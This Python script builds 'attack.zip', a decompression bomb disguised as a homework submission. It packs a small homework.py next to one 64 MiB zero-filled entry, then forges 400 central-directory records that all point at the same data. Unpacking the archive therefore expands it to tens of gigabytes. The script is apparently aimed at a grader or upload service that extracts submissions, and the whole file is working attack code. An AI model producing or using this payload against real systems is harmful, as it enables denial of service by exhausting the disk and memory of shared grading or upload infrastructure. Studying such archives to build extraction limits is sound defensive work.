import struct
import zipfile
from pathlib import Path

HOMEWORK = "def flatten(x):\n    return x.reshape(x.shape[0], -1)\n"
ENTRIES = 400


def build(folder: Path) -> None:
    path = folder / "attack.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("homework.py", HOMEWORK)
        archive.writestr("0000.bin", bytes(64 << 20))
    content = path.read_bytes()
    end = content.rindex(b"PK\5\6")
    start = struct.unpack("<I", content[end + 16 : end + 20])[0]
    last = content.index(b"PK\1\2", start + 4)
    record = content[last:end]
    records = content[start:last] + b"".join(
        record.replace(b"0000.bin", b"%04d.bin" % number) for number in range(ENTRIES)
    )
    count = ENTRIES + 1
    tail = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(records), start, 0)
    path.write_bytes(content[:start] + records + tail)
